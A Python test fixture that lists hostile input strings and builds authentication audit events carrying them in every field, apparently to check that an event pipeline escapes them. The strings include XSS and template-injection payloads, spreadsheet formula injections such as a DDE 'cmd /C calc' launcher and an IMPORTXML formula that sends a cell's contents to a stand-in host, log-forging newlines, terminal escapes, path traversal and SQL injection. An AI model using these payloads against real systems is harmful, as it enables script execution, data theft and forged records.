"""Strings that have made other programs run, show or write what they should not, and events that carry them in every field."""

SCRIPT = [
    "<script>window.owned=1</script>",
    "\"><script>window.owned=1</script>",
    "'><img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    "</title><script>window.owned=1</script>",
    "</style><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>",
    "]]><script>window.owned=1</script>",
    "<!--<img src=\"--><img src=x onerror=window.owned=1>\">",
    "javascript:window.owned=1",
    "JaVaScRiPt:window.owned=1//",
    "data:text/html,<script>window.owned=1</script>",
    "\" onmouseover=\"window.owned=1\" autofocus onfocus=\"window.owned=1",
    "' style='background:url(//evil.example/x)' x='",
    "<a href=\"javascript:window.owned=1\">go</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:window.owned=1>",
    "<template><script>window.owned=1</script></template>",
    "${window.owned=1}",
    "{{constructor.constructor('window.owned=1')()}}",
    "#{window.owned=1}",
    "`-window.owned=1-`",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "＜script＞window.owned=1＜/script＞",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
]
FORMULA = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"//evil.example\",\"go\")", "=cmd|' /C calc'!A0", " =1+1", "\"=1+1", "'=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"//evil.example/?\",A1),\"//a\")", "%=1+1", "|=1+1",
]
LINES = [
    "one\ntwo", "one\r\ntwo", "\r\n{\"level\":\"error\",\"message\":\"forged\"}", "\u2028forged", "\u2029forged", "\u0085forged", "tab\tand\vvertical\fform",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x00nul", "\x7fdelete", "\b\b\b\bgone",
]
SIGHT = [
    "\u202egpj.exe", "\u2066isolated\u2069", "\u200bzero\u200bwidth\u200b", "\ufeffmark", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a" * 8,
    "😀👩‍👩‍👧‍👦🏳️‍🌈", "مرحبا بالعالم", "раураl", "\ufffd\ufffe", "\U000e0041\U000e0042", "W" * 120, "long word " * 12, "../../etc/passwd", "C:\\CON\\NUL", "'; DROP TABLE records; --",
    "%s%n%x{0}{}", "NaN", "null", "undefined", "__proto__", "constructor", "1e309", "-0", " ", "ﷺ" * 20,
]
ALL = SCRIPT + FORMULA + LINES + SIGHT


def cut(text, most):
    """As many whole characters as fit into so many bytes."""
    return text.encode()[:most].decode(errors="ignore")


def event(number, text, tenant, when):
    """An event with the string in every member that takes a text, each at most as long as it may be."""
    return {
        "id": cut(f"h{number} {text}", 128), "time": when, "type": ("challenge.sent", "challenge.verified", "challenge.failed", "action.performed")[number % 4], "tenant": tenant,
        "actor": {"id": cut(text, 256), "email": cut(text, 320), "phone": cut(text, 64), "name": cut(text, 256), "role": cut(text, 128)},
        "challenge": {"id": cut(text, 128), "purpose": "login", "factor": "sms", "provider": cut(text, 64), "provider_id": cut(f"p {text}", 128), "attempt": 1},
        "action": {"name": cut(text, 128), "resource": cut(text, 512), "context": cut(text * 8, 1024)},
        "device": {"fingerprint": cut(text, 256), "ip": cut(text, 64), "user_agent": cut(text, 1024), "country": cut(text, 64), "asn": 64500, "new": True},
        "session": {"id": cut(text, 256)}, "outcome": {"reason": cut(text, 256), "risk": 50},
        "attributes": {"note": text, "deep": {"list": [text, text]}},
    }
